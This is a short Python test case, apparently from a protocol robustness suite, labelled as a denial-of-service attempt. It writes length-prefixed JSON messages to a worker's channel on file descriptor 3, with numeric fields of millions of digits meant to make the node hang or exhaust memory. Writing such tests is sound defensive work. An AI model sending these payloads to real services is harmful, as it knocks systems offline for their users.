# family: frames-of-ours
# kind: dos
# tries: raw bytes on the worker's channel: an integer of 16 million digits, an exponent of as many
# success looks like: the node stops answering, or grows
def job(plugin):
  @LIBC@
  for number in (b'9' * 16000000, b'1e' + b'9' * 1000000, b'-' + b'0' * 1000):
    body = b'{"did":"call","id":1,"seconds":' + number + b',"value":1}'
    data = len(body).to_bytes(4, 'big') + body
    while data:
      data = data[os.write(3, data):]
  return 1
